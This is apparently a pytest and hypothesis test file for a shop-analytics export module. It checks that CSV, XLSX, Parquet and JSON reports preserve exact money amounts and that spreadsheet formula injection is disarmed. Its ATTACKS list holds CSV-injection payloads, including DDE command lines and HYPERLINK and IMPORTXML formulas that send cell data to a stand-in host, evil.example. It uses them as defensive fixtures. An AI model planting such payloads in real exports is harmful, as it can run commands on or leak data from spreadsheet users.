"""Laws of exports: whatever a report holds, each form reads back equal to the minor unit, and nothing in it is run."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from analytics.exports import disarmed, report_csv, report_parquet, report_xlsx
from analytics.exports.cells import armed
from analytics.exports.xlsx import sheet_names
from analytics.query import Column
from analytics.report import Report, Table, document
from analytics.shop import Shop
from munim.days import Calendar, Period
from munim.money import MAX_MINOR, parse_minor

# what a spreadsheet would run, and how it is hidden: CWE-1236, OWASP's page on CSV injection
ATTACKS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"Click")', "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")",
    "+1+1", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@x", "  =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''=1+1", "' =1+1", "\x00=1+1", "\x1b=1+1", "=", "-", "+91 98765 43210",
]  # fmt: skip
HARMLESS = ["Rice", "", "'", "O'Hara", "'quoted'", "a=b", "1+1", "x@y.example", "₹5", "चावल", "5 - 3", "  plain", "#REF", '"']  # fmt: skip
# what Postgres keeps and XML can carry, in any script
TEXT = st.text(max_size=30).map(lambda text: text.translate({0: None, 0xFFFE: None, 0xFFFF: None}))
MONEY = st.none() | st.integers(-MAX_MINOR // 10, MAX_MINOR // 10)
ROW = st.tuples(
    st.dates(date(1950, 1, 1), date(2100, 1, 1)),
    TEXT,
    MONEY,
    st.none() | st.integers(-(10**9), 10**9),
    st.none() | st.decimals(-(10**6), 10**6, places=3),
    st.none() | st.decimals(-1000, 1000, places=1),
)
SHOPS = st.sampled_from([("INR", 2), ("GBP", 2), ("JPY", 0), ("KWD", 3)])
COLUMNS = (
    Column("day", "Day", "date"),
    Column("product", "Product", "text"),
    Column("revenue", "Revenue", "money", metric=True),
    Column("orders", "Orders", "count", metric=True),
    Column("items", "Items", "quantity", metric=True),
    Column("margin", "Margin", "percent", metric=True),
)


def report_of(
    rows: list[Any], *, currency: str = "INR", exponent: int = 2, title: str = "Any rows", name: str = "Shop"
) -> Report:
    sums = tuple(sum(row[n] or 0 for row in rows) for n in (2, 3, 4))
    table = Table("rows", title, COLUMNS, rows, (None, None, *sums, None))
    return Report(
        kind="any", title=title, period=Period(date(2026, 11, 1), date(2026, 12, 1)), shop=Shop(name, currency, exponent, "IN", "", Calendar()),
        version=7, as_of=datetime(2026, 11, 20, 9, 30, tzinfo=UTC), today=date(2026, 11, 20), headlines=(), tables=(table,), sentences=(title,), empty=False,
    )  # fmt: skip


reports = st.builds(
    lambda rows, shop, title, name: report_of(rows, currency=shop[0], exponent=shop[1], title=title, name=name),
    st.lists(ROW, max_size=5), SHOPS, TEXT, TEXT,
)  # fmt: skip
law = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def minor(text: Any, report: Report) -> int | None:
    return None if text in (None, "") else parse_minor(str(text), report.shop.currency)


@law
@given(reports)
def test_csv_reads_back_to_the_minor_unit(report: Report) -> None:
    content = report_csv(report, "rows").decode("utf-8-sig")
    _, *rows, total = list(csv.reader(io.StringIO(content, newline="")))

    for cells, row in zip(rows, report.tables[0].rows, strict=True):
        assert date.fromisoformat(cells[0]) == row[0]
        assert armed(cells[1]) == row[1]
        assert minor(cells[2], report) == row[2]
        assert [None if cell == "" else Decimal(cell) for cell in cells[3:]] == list(row[3:])
    assert minor(total[2], report) == sum(row[2] or 0 for row in report.tables[0].rows)


@law
@given(reports)
def test_xlsx_reads_back_to_the_minor_unit_and_its_sums_recalculate_to_the_totals(report: Report) -> None:
    content = report_xlsx(report)
    formulas, values = (
        openpyxl.load_workbook(io.BytesIO(content), data_only=only).worksheets[1] for only in (False, True)
    )
    rows, places = report.tables[0].rows, report.shop.exponent

    for row, expected in enumerate(rows, start=2):
        day, name, money, *others = (values.cell(row, place) for place in range(1, 7))
        assert day.value.date() == expected[0]
        assert unescape(name.value or "") == expected[1]
        assert name.data_type in ("s", "n")  # "n" is how nothing is read; never a formula
        assert money.value is None if expected[2] is None else round(money.value * 10**places) == expected[2]
        assert [cell.value and round(Decimal(cell.value) * 1000) for cell in others] == [
            None if value is None else round(Decimal(value) * (10 if place == 2 else 1000))
            for place, value in enumerate(expected[3:])
        ]
    for place in range(3, 6):
        cell = formulas.cell(len(rows) + 2, place)
        if cell.data_type == "f":
            letter, end = cell.column_letter, f":{cell.column_letter}{len(rows) + 1}" if len(rows) > 1 else ""
            assert cell.value == f"=SUM({letter}2{end})"
            recalculated = sum(Decimal(repr(values.cell(row, place).value or 0)) for row in range(2, len(rows) + 2))
            assert recalculated == Decimal(repr(values.cell(len(rows) + 2, place).value))
        else:
            assert not rows


@law
@given(reports)
def test_parquet_reads_back_typed_and_says_where_it_is_from(report: Report) -> None:
    read = pq.read_table(io.BytesIO(report_parquet(report)))

    assert [str(field.type) for field in read.schema] == [
        "date32[day]", "string", f"decimal128(18, {report.shop.exponent})", "int64", "decimal128(18, 3)", "decimal128(18, 4)",
    ]  # fmt: skip
    found = list(zip(*(column.to_pylist() for column in read.columns), strict=True))
    expected = [
        (*row[:2], None if row[2] is None else Decimal(row[2]).scaleb(-report.shop.exponent), *row[3:])
        for row in report.tables[0].rows
    ]
    assert found == expected
    facts = read.schema.metadata
    assert facts[b"munim.version"] == b"7"
    assert facts[b"munim.as_of"] == b"2026-11-20T09:30:00+00:00"
    assert json.loads(facts[b"munim.total"])["orders"] == sum(row[3] or 0 for row in report.tables[0].rows)


@law
@given(reports)
def test_json_carries_amounts_as_decimal_strings(report: Report) -> None:
    rows = json.loads(json.dumps(document(report)))["tables"]["rows"]["rows"]

    assert [minor(row["revenue"], report) for row in rows] == [row[2] for row in report.tables[0].rows]
    assert [row["product"] for row in rows] == [row[1] for row in report.tables[0].rows]


@given(st.text())
def test_what_was_disarmed_can_be_given_back(text: str) -> None:
    assert armed(disarmed(text)) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_is_text_in_csv_and_in_xlsx_wherever_a_name_can_stand(text: str) -> None:
    report = report_of([(date(2026, 11, 1), text, 100, 1, Decimal(1), Decimal(1))], title=text, name=text)

    cells = [
        cell for row in csv.reader(io.StringIO(report_csv(report).decode("utf-8-sig"), newline="")) for cell in row
    ]
    assert disarmed(text) == "'" + text
    assert cells.count("'" + text) >= 3  # the title, the shop, the product
    assert text not in cells

    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))
    cell = book.worksheets[1]["B2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    formulas = [cell.value for sheet in book for row in sheet for cell in row if cell.data_type == "f"]
    assert all(formula.startswith("=SUM(") for formula in formulas)


@pytest.mark.parametrize("text", HARMLESS)
def test_an_honest_name_is_left_as_it_is(text: str) -> None:
    assert disarmed(text) == text


@given(st.lists(st.text(max_size=60), max_size=12))
def test_any_titles_become_names_that_excel_takes(titles: list[str]) -> None:
    names = sheet_names(titles)

    folded = [name.casefold() for name in names]
    assert len(set(folded)) == len(titles)
    assert not {"summary", "history"} & set(folded)
    for name in names:
        assert 1 <= len(name.encode("utf-16-le", "surrogatepass")) // 2 <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'") and not name.endswith("'")


def test_titles_alike_are_numbered_and_long_ones_cut() -> None:
    assert sheet_names(["Sales", "sales", "Summary", "x" * 40, "x" * 40, "a/b: c?", ""]) == [
        "Sales", "sales (2)", "Summary (2)", "x" * 31, "x" * 27 + " (2)", "a b  c", "Table",
    ]  # fmt: skip
